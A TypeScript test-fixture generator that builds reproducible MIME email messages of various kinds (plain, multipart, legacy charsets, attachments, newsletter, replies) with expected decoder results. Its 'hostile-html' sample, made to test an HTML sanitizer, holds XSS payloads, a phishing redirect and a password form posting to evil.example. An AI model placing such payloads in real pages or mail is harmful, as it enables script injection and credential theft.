import {
  CRLF,
  encodeBase64Lines,
  encodeCharset,
  encodeQuotedPrintable,
  encodeWordB,
  encodeWordQ,
  formatAddress,
  formatDate,
  randomBytes,
  rfc2231,
} from './mime';

/**
 * Realistic RFC 5322 messages built from templates, each with the exact
 * result a correct decoder must produce (`expected`). Used by populate.ts
 * to fill mailboxes fast and by body-decoding tests to check one shape.
 * Everything is a pure function of (kind, i, options): same input, same bytes.
 */

export const SAMPLE_KINDS = [
  'plain',
  'html',
  'alternative',
  'nested',
  'cid',
  'latin1',
  'win1252',
  'iso2022jp',
  'attachment',
  'newsletter',
  'hostile-html',
  'reply',
] as const;
export type SampleKind = (typeof SAMPLE_KINDS)[number];

export interface Address {
  name: string;
  address: string;
}

export interface ExpectedAttachment {
  filename: string;
  contentType: string;
  disposition: 'attachment' | 'inline';
  /** With angle brackets, as in the Content-ID header. */
  contentId?: string;
  bytes: Buffer;
}

export interface ExpectedMessage {
  kind: SampleKind;
  /** Decoded subject. */
  subject: string;
  from: Address;
  to: Address[];
  date: Date;
  /** With angle brackets. */
  messageId: string;
  inReplyTo?: string;
  references?: string[];
  /** Fragments the decoded text/plain body must contain. */
  text: string[];
  /** Fragments the decoded HTML body must contain. */
  html: string[];
  attachments: ExpectedAttachment[];
  /** Remote image URLs in the HTML (must not load without consent). */
  remoteImages: string[];
  /** Fragments a sanitizer must remove from the HTML (hostile-html). */
  dangerous: string[];
  /** Charset of the main text part as declared in the message. */
  charset: string;
}

export interface BuiltMessage {
  raw: Buffer;
  expected: ExpectedMessage;
}

export interface BuildOptions {
  date?: Date;
  from?: Address;
  to?: Address;
  messageId?: string;
  /** For 'reply': the parent's Message-ID, subject and References. */
  inReplyTo?: string;
  references?: string[];
  parentSubject?: string;
}

export const PEOPLE: readonly Address[] = [
  { name: 'Alice Andersson', address: 'alice@example.test' },
  { name: 'Bob Builder', address: 'bob@example.test' },
  { name: 'Carol Chen', address: 'carol@example.test' },
  { name: 'Åsa Öberg', address: 'asa.oberg@example.se' },
  { name: '山田 太郎', address: 'taro.yamada@example.jp' },
  { name: "Dave O'Neil", address: 'dave@partner.example' },
];
const NEWSLETTER: Address = { name: 'Acme Weekly', address: 'news@newsletter.example' };

/** A valid 1×1 PNG: known bytes for inline-image checks. */
export const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

/** Fixed base date so that default builds are reproducible. */
const BASE_DATE = Date.UTC(2025, 0, 15, 9, 30, 0);

interface Part {
  headers: string[];
  body: string;
}

interface Draft {
  subject: string;
  /** Subject header value, already encoded. */
  subjectHeader: string;
  from?: Address;
  fromCharset?: string;
  extraHeaders?: string[];
  part: Part;
  text?: string[];
  html?: string[];
  attachments?: ExpectedAttachment[];
  remoteImages?: string[];
  dangerous?: string[];
  charset: string;
}

export function buildMessage(kind: SampleKind, i = 0, opts: BuildOptions = {}): BuiltMessage {
  const date = opts.date ?? new Date(BASE_DATE - i * 3_600_000);
  const to = opts.to ?? PEOPLE[0]!;
  const from = opts.from ?? PEOPLE[1 + (i % (PEOPLE.length - 1))]!;
  const messageId = opts.messageId ?? `<${kind}.${i}@mail.example.test>`;
  const draft = BUILDERS[kind](i, { from, to, date, opts });
  const sender = draft.from ?? from;
  const inReplyTo = kind === 'reply' ? (opts.inReplyTo ?? `<plain.${i + 1}@mail.example.test>`) : undefined;
  const references =
    kind === 'reply' ? [...(opts.references ?? []), inReplyTo!].filter((v, n, a) => a.indexOf(v) === n) : undefined;

  const head = [
    `Return-Path: <${sender.address}>`,
    `Received: from mx.partner.example (mx.partner.example [192.0.2.25])${CRLF}\tby mail.example.test with ESMTPS; ${formatDate(date)}`,
    `From: ${formatAddress(sender, draft.fromCharset)}`,
    `To: ${formatAddress(to)}`,
    `Subject: ${draft.subjectHeader}`,
    `Date: ${formatDate(date)}`,
    `Message-ID: ${messageId}`,
    ...(inReplyTo ? [`In-Reply-To: ${inReplyTo}`, `References: ${references!.join(`${CRLF} `)}`] : []),
    ...(draft.extraHeaders ?? []),
    'MIME-Version: 1.0',
  ];
  const raw = Buffer.from(`${head.join(CRLF)}${CRLF}${render(draft.part)}`, 'utf8');
  return {
    raw,
    expected: {
      kind,
      subject: draft.subject,
      from: sender,
      to: [to],
      date: new Date(Math.floor(date.getTime() / 1000) * 1000),
      messageId,
      ...(inReplyTo ? { inReplyTo, references } : {}),
      text: draft.text ?? [],
      html: draft.html ?? [],
      attachments: draft.attachments ?? [],
      remoteImages: draft.remoteImages ?? [],
      dangerous: draft.dangerous ?? [],
      charset: draft.charset,
    },
  };
}

/** Headers then body; a multipart's body already holds its rendered children. */
function render(part: Part): string {
  return `${part.headers.join(CRLF)}${CRLF}${CRLF}${part.body}`;
}

function multipart(subtype: string, boundary: string, parts: Part[], extra = ''): Part {
  const body =
    `This is a multi-part message in MIME format.${CRLF}` +
    parts.map((p) => `${CRLF}--${boundary}${CRLF}${render(p)}`).join('') +
    `${CRLF}--${boundary}--${CRLF}`;
  return { headers: [`Content-Type: multipart/${subtype}; boundary="${boundary}"${extra}`], body };
}

function textPart(
  text: string,
  charset: string,
  cte: 'quoted-printable' | 'base64' | '7bit' | '8bit',
  type = 'plain',
): Part {
  const crlf = text.replace(/\r?\n/g, CRLF);
  const bytes = encodeCharset(crlf, charset);
  const body =
    cte === 'quoted-printable'
      ? encodeQuotedPrintable(bytes)
      : cte === 'base64'
        ? encodeBase64Lines(bytes)
        : cte === '8bit'
          ? crlf // stays UTF-8 text; the whole message is encoded as UTF-8
          : bytes.toString('latin1');
  return {
    headers: [`Content-Type: text/${type}; charset=${charset}`, `Content-Transfer-Encoding: ${cte}`],
    body: `${body}${CRLF}`,
  };
}

function filePart(a: ExpectedAttachment): Part {
  const headers = [
    `Content-Type: ${a.contentType}; ${rfc2231('name', a.filename)}`,
    `Content-Disposition: ${a.disposition}; ${rfc2231('filename', a.filename)}`,
    'Content-Transfer-Encoding: base64',
  ];
  if (a.contentId) headers.push(`Content-ID: ${a.contentId}`);
  return { headers, body: `${encodeBase64Lines(a.bytes)}${CRLF}` };
}

function first(a: Address): string {
  return a.name.split(' ')[0] ?? a.name;
}

/** Pseudo-random filler, one of 32 cached blobs per size: generating it per message would dominate populate's time. */
const fillers = new Map<string, Buffer>();
function filler(i: number, size: number): Buffer {
  const key = `${i % 32}:${size}`;
  let blob = fillers.get(key);
  if (!blob) fillers.set(key, (blob = randomBytes(0x5eed + (i % 32) * 7919 + size, size)));
  return blob;
}

function pdfBytes(i: number, size: number): Buffer {
  return Buffer.concat([Buffer.from(`%PDF-1.4\n% test document ${i}\n`), filler(i, size), Buffer.from('\n%%EOF\n')]);
}

interface Ctx {
  from: Address;
  to: Address;
  date: Date;
  opts: BuildOptions;
}

const LOREM =
  'The quarterly numbers look solid, but the migration plan still needs an owner. ' +
  'Could we go through the open questions before Thursday, so that the release notes can go out on time?';

const BUILDERS: Record<SampleKind, (i: number, c: Ctx) => Draft> = {
  plain(i, c) {
    const subject = `Weekly sync notes #${i}`;
    const text =
      `Hi ${first(c.to)},\n\nHere are the notes from meeting #${i}.\n\n` +
      `- Review the backlog\n- Ship release ${1 + (i % 7)}.${i % 10}\n\n` +
      `${LOREM}\n\n`.repeat(1 + (i % 4)) +
      `Cheers,\n${first(c.from)}\n`;
    // Plain 7-bit US-ASCII where the text allows it; a sender like Åsa signs in UTF-8 (8bit).
    const ascii = [...text].every((ch) => ch.charCodeAt(0) < 0x80);
    return {
      subject,
      subjectHeader: subject,
      part: ascii ? textPart(text, 'us-ascii', '7bit') : textPart(text, 'utf-8', '8bit'),
      text: [`notes from meeting #${i}`, `Cheers,\n${first(c.from)}`],
      charset: ascii ? 'us-ascii' : 'utf-8',
    };
  },

  html(i) {
    const subject = `Your order #${1000 + i} has shipped`;
    const html =
      `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Order</title></head><body>` +
      `<p>Hello,</p><p>Your order <a href="https://shop.example/orders/${1000 + i}">#${1000 + i}</a> has shipped. ` +
      `Tracking number: <b>TRK-${i}-X</b>.</p><p>Viele Grüße, das Shop-Team</p></body></html>\n`;
    return {
      subject,
      subjectHeader: subject,
      part: textPart(html, 'utf-8', 'quoted-printable', 'html'),
      text: [`TRK-${i}-X`],
      html: [`<b>TRK-${i}-X</b>`, 'Viele Grüße'],
      charset: 'utf-8',
    };
  },

  alternative(i, c) {
    const subject = `Möte på fredag – agenda ${i}`;
    const text = `Hej ${first(c.to)}!\n\nVi ses på fredag kl. 10 i rummet Älvsborg.\nPunkt ${i}: budget för nästa år.\n`;
    const html =
      `<html><body><p>Hej ${first(c.to)}!</p><p>Vi ses på <strong>fredag</strong> kl. 10 i rummet Älvsborg.</p>` +
      `<ul><li>Punkt ${i}: budget för nästa år</li></ul></body></html>\n`;
    return {
      subject,
      subjectHeader: encodeWordB(subject),
      part: multipart('alternative', `=_alt_${i}`, [
        textPart(text, 'utf-8', '8bit'),
        textPart(html, 'utf-8', 'quoted-printable', 'html'),
      ]),
      text: ['Vi ses på fredag kl. 10 i rummet Älvsborg.'],
      html: ['<strong>fredag</strong>'],
      charset: 'utf-8',
    };
  },

  nested(i, c) {
    const subject = `Fwd: Site photos and contract ${i}`;
    const image: ExpectedAttachment = {
      filename: 'site.png',
      contentType: 'image/png',
      disposition: 'inline',
      contentId: `<site-${i}@example.test>`,
      bytes: PNG_1X1,
    };
    const pdf: ExpectedAttachment = {
      filename: `contract-${i}.pdf`,
      contentType: 'application/pdf',
      disposition: 'attachment',
      bytes: pdfBytes(i, 2048),
    };
    const inner = buildMessage('plain', i + 1, {
      from: PEOPLE[5]!,
      to: c.from,
      date: new Date(c.date.getTime() - 86_400_000),
    });
    const forwarded: ExpectedAttachment = {
      filename: 'forwarded.eml',
      contentType: 'message/rfc822',
      disposition: 'attachment',
      bytes: inner.raw,
    };
    const related = multipart(
      'related',
      `=_rel_${i}`,
      [
        textPart(
          `<html><body><p>See the photo below.</p><img src="cid:site-${i}@example.test" alt="site"></body></html>\n`,
          'utf-8',
          'quoted-printable',
          'html',
        ),
        filePart(image),
      ],
      '; type="text/html"',
    );
    const alternative = multipart('alternative', `=_alt_${i}`, [
      textPart(`See the photo below.\nThe contract is attached (nested ${i}).\n`, 'utf-8', '7bit'),
      related,
    ]);
    const rfc822: Part = {
      headers: ['Content-Type: message/rfc822', 'Content-Disposition: attachment; filename="forwarded.eml"'],
      body: `${inner.raw.toString('utf8')}`,
    };
    return {
      subject,
      subjectHeader: subject,
      part: multipart('mixed', `=_mix_${i}`, [alternative, filePart(pdf), rfc822]),
      text: [`The contract is attached (nested ${i}).`],
      html: [`cid:site-${i}@example.test`],
      attachments: [image, pdf, forwarded],
      charset: 'utf-8',
    };
  },

  cid(i) {
    const subject = `Logo proposal ${i}`;
    const logo: ExpectedAttachment = {
      filename: 'logo.png',
      contentType: 'image/png',
      disposition: 'inline',
      contentId: `<logo-${i}@example.test>`,
      bytes: PNG_1X1,
    };
    const html = `<html><body><p>Here is the new logo:</p><img src="cid:logo-${i}@example.test" width="64" height="64"></body></html>\n`;
    return {
      subject,
      subjectHeader: subject,
      part: multipart(
        'related',
        `=_rel_${i}`,
        [textPart(html, 'utf-8', 'quoted-printable', 'html'), filePart(logo)],
        '; type="text/html"',
      ),
      html: [`cid:logo-${i}@example.test`, 'Here is the new logo:'],
      attachments: [logo],
      charset: 'utf-8',
    };
  },

  latin1(i, c) {
    const from = PEOPLE[3]!;
    const subject = `Hälsningar från Göteborg ${i}`;
    const text =
      `Hej ${first(c.to)},\n\nTack för senast! Smörgåsbordet på Älvsborgs fästning var fantastiskt.\n` +
      `Vi hörs nästa vecka (nr ${i}).\n\nMed vänliga hälsningar,\nÅsa Öberg\n`;
    return {
      subject,
      subjectHeader: encodeWordQ(subject, 'ISO-8859-1'),
      from,
      fromCharset: 'ISO-8859-1',
      part: textPart(text, 'ISO-8859-1', 'quoted-printable'),
      text: ['Smörgåsbordet på Älvsborgs fästning var fantastiskt.', `Vi hörs nästa vecka (nr ${i}).`],
      charset: 'ISO-8859-1',
    };
  },

  win1252(i) {
    const subject = `Invoice “${i}” – €99`;
    const text =
      `Hello,\n\nThe price is €${i}.50 — “quoted” text… and ‘single’ quotes.\n` +
      `Naïve café déjà vu, œuvre No ${i}.\n` +
      `\nRegards,\nAccounts\n`;
    return {
      subject,
      subjectHeader: encodeWordQ(subject, 'windows-1252'),
      part: textPart(text, 'windows-1252', 'base64'),
      text: [`The price is €${i}.50 — “quoted” text… and ‘single’ quotes.`, 'Naïve café déjà vu, œuvre'],
      charset: 'windows-1252',
    };
  },

  iso2022jp(i) {
    const from = PEOPLE[4]!;
    const subject = `会議の議事録 ${i}`;
    const text = `アリスさん\n\n明日の会議は午後三時からです。\n資料番号 ${i} を確認してください。\nよろしくお願いします。\n山田\n`;
    return {
      subject,
      subjectHeader: encodeWordB(subject, 'ISO-2022-JP'),
      from,
      fromCharset: 'ISO-2022-JP',
      part: textPart(text, 'ISO-2022-JP', '7bit'),
      text: ['明日の会議は午後三時からです。', `資料番号 ${i} を確認してください。`],
      charset: 'ISO-2022-JP',
    };
  },

  attachment(i) {
    const subject = `Report ${i} attached`;
    const pdf: ExpectedAttachment = {
      filename: `report-${i}.pdf`,
      contentType: 'application/pdf',
      disposition: 'attachment',
      bytes: pdfBytes(i, 3000 + (i % 5) * 1000),
    };
    const csv: ExpectedAttachment = {
      filename: 'data.csv',
      contentType: 'text/csv',
      disposition: 'attachment',
      bytes: Buffer.from(`id,name,amount\r\n${i},Widget,${(i * 3.7).toFixed(2)}\r\n${i + 1},Gadget,12.00\r\n`),
    };
    const notes: ExpectedAttachment = {
      filename: `Résumé ${i} – åäö.txt`,
      contentType: 'text/plain',
      disposition: 'attachment',
      bytes: Buffer.from(`Résumé for candidate ${i}\nSkills: smörgåsbord, 日本語\n`, 'utf8'),
    };
    return {
      subject,
      subjectHeader: subject,
      part: multipart('mixed', `=_mix_${i}`, [
        textPart(`Please find report ${i} attached, with the data and the notes.\n`, 'us-ascii', '7bit'),
        filePart(pdf),
        filePart(csv),
        filePart(notes),
      ]),
      text: [`Please find report ${i} attached`],
      attachments: [pdf, csv, notes],
      charset: 'us-ascii',
    };
  },

  newsletter(i) {
    const subject = `This week at Acme: issue ${i}`;
    const images = ['hero.jpg', 'product-1.jpg', 'product-2.jpg', 'product-3.jpg', 'footer-logo.png'].map(
      (f) => `https://cdn.newsletter.example/issues/${i}/${f}`,
    );
    const pixel = `https://t.newsletter.example/open/${i}.gif`;
    const cells = images
      .slice(1, 4)
      .map(
        (src, n) =>
          `<td style="padding:8px;width:33%;vertical-align:top"><img src="${src}" width="180" height="120" alt="Product ${n + 1}" style="display:block;border:0">` +
          `<h3 style="font-family:Arial,sans-serif;color:#333">Product ${n + 1}</h3><p style="font-family:Arial,sans-serif;color:#666">` +
          `Now ${10 + n * 5}% off for subscribers.</p><a href="https://newsletter.example/c/${i}/${n}" style="color:#0a66c2">Shop now</a></td>`,
      )
      .join('');
    const html =
      `<!DOCTYPE html><html><head><meta charset="utf-8"><style>@media (max-width:600px){td{display:block!important;width:100%!important}}` +
      `.btn{background:#0a66c2;color:#fff;padding:12px 24px;border-radius:4px}</style></head>` +
      `<body style="margin:0;background:#f4f4f4"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">` +
      `<table role="presentation" width="600" style="background:#fff"><tr><td><img src="${images[0]}" width="600" height="240" alt="This week at Acme"></td></tr>` +
      `<tr><td style="padding:24px;font-family:Arial,sans-serif"><h1 style="color:#111">This week at Acme</h1>` +
      `<p>Issue ${i}: spring collection, new stores, and a word from our CEO.</p><a class="btn" href="https://newsletter.example/c/${i}/main">Read more</a></td></tr>` +
      `<tr><td><table role="presentation" width="100%"><tr>${cells}</tr></table></td></tr>` +
      `<tr><td style="padding:24px;font-size:12px;color:#999;font-family:Arial,sans-serif"><img src="${images[4]}" width="80" alt="Acme">` +
      `<p>You receive this because you subscribed. <a href="https://newsletter.example/u/${i}">Unsubscribe</a></p></td></tr></table>` +
      `</td></tr></table><img src="${pixel}" width="1" height="1" alt=""></body></html>\n`;
    const text = `This week at Acme\n\nIssue ${i}: spring collection, new stores, and a word from our CEO.\nRead more: https://newsletter.example/c/${i}/main\n\nUnsubscribe: https://newsletter.example/u/${i}\n`;
    return {
      subject,
      subjectHeader: subject,
      from: NEWSLETTER,
      extraHeaders: [
        `List-Id: Acme Weekly <weekly.newsletter.example>`,
        `List-Unsubscribe: <https://newsletter.example/u/${i}>, <mailto:unsubscribe@newsletter.example?subject=${i}>`,
        'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
        'Precedence: bulk',
      ],
      part: multipart('alternative', `=_news_${i}`, [
        textPart(text, 'utf-8', 'quoted-printable'),
        textPart(html, 'utf-8', 'quoted-printable', 'html'),
      ]),
      text: [`Issue ${i}: spring collection`],
      html: ['This week at Acme', 'Shop now'],
      remoteImages: [...images, pixel],
      charset: 'utf-8',
    };
  },

  'hostile-html'(i) {
    const subject = `Quarterly report ${i} is ready`;
    const html =
      `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/phish"><base href="https://evil.example/">` +
      `<style>body{background:url("javascript:alert(1)")} .x{width:expression(alert(1))}</style>` +
      `<script>alert('xss-${i}')</script></head><body onload="alert('onload')">` +
      `<p>Quarterly report ${i} is ready.</p>` +
      `<img src="x" onerror="alert('img')"><a href="javascript:alert('link')">Open report</a>` +
      `<iframe src="https://evil.example/frame"></iframe>` +
      `<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>` +
      `<svg onload="alert('svg')"><circle r="1"/></svg><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">` +
      `<a href="https://evil.example/track">Totally safe link</a><img src="https://tracker.evil.example/pixel.gif?id=${i}" width="1" height="1">` +
      `</body></html>\n`;
    return {
      subject,
      subjectHeader: subject,
      part: textPart(html, 'utf-8', 'base64', 'html'),
      text: [`Quarterly report ${i} is ready.`],
      html: [`Quarterly report ${i} is ready.`, 'Totally safe link'],
      remoteImages: [`https://tracker.evil.example/pixel.gif?id=${i}`],
      dangerous: [
        '<script',
        'onload=',
        'onerror=',
        'javascript:',
        '<iframe',
        '<form',
        '<object',
        '<embed',
        'http-equiv="refresh"',
        '<base',
        'expression(',
      ],
      charset: 'utf-8',
    };
  },

  reply(i, c) {
    const parentSubject = c.opts.parentSubject ?? `Weekly sync notes #${i + 1}`;
    const subject = /^re:/i.test(parentSubject) ? parentSubject : `Re: ${parentSubject}`;
    const text =
      `Thanks ${first(c.to)}, sounds good to me (reply ${i}).\n\n` +
      `On ${formatDate(new Date(c.date.getTime() - 3_600_000))}, ${c.to.name} <${c.to.address}> wrote:\n` +
      `> ${LOREM}\n>\n> Best,\n> ${first(c.to)}\n`;
    return {
      subject,
      subjectHeader: encodeWordB(subject),
      part: textPart(text, 'utf-8', 'quoted-printable'),
      text: [`sounds good to me (reply ${i})`],
      charset: 'utf-8',
    };
  },
};
